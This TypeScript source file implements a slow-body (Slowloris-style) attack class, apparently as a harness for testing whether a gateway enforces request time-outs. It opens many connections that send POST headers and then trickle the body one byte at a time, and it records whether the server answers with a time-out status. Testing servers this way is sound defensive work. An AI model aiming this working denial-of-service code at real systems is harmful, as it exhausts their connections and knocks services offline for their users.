import { connect, type Socket } from 'node:net';

export interface SlowBodyOptions {
  host: string;
  port: number;
  /** Connections to open. */
  sockets: number;
  /** Each connection sends one byte of its body this often. */
  byteIntervalMs: number;
  /** Local address to connect from (on Linux any 127.x.y.z reaches a server on 127.0.0.1). */
  localAddress?: string;
}

/** One slow connection: how it ended, and what the server said. */
export interface SlowConnection {
  socket: Socket;
  /** Whether the TCP connection was established (the server may still close it at once). */
  connected: boolean;
  closed: boolean;
  /** The status line the server answered, if it answered (e.g. "HTTP/1.1 408 Request Timeout"). */
  answer: string | undefined;
}

/**
 * The slow-body attack: many connections that each send the headers of a POST /session whose
 * body never finishes, one byte at a time. A server without a request time-out holds every one of
 * them (and its file descriptor) for as long as the client likes.
 */
export class SlowBodyAttack {
  private readonly timers = new Set<NodeJS.Timeout>();

  private constructor(readonly connections: SlowConnection[]) {}

  /** Opens every connection; resolves once each is connected or already closed. */
  static async open(options: SlowBodyOptions): Promise<SlowBodyAttack> {
    const attack = new SlowBodyAttack([]);
    await Promise.all(Array.from({ length: options.sockets }, () => attack.add(options)));
    return attack;
  }

  /** Connections still open. */
  get open(): number {
    return this.connections.filter((c) => !c.closed).length;
  }

  /** Ends every connection still open, and stops sending. */
  stop(): void {
    for (const timer of this.timers) clearInterval(timer);
    for (const c of this.connections) c.socket.destroy();
  }

  private add(options: SlowBodyOptions): Promise<void> {
    return new Promise((resolve) => {
      const socket = connect({ host: options.host, port: options.port, localAddress: options.localAddress });
      const c: SlowConnection = { socket, connected: false, closed: false, answer: undefined };
      this.connections.push(c);
      let timer: NodeJS.Timeout | undefined;
      socket.on('error', () => {});
      socket.once('data', (chunk: Buffer) => (c.answer = chunk.toString('latin1').split('\r\n')[0]));
      socket.once('close', () => {
        c.closed = true;
        if (timer) {
          clearInterval(timer);
          this.timers.delete(timer);
        }
        resolve();
      });
      socket.once('connect', () => {
        c.connected = true;
        socket.write('POST /session HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{');
        timer = setInterval(() => socket.write(' '), options.byteIntervalMs);
        this.timers.add(timer);
        resolve();
      });
    });
  }
}
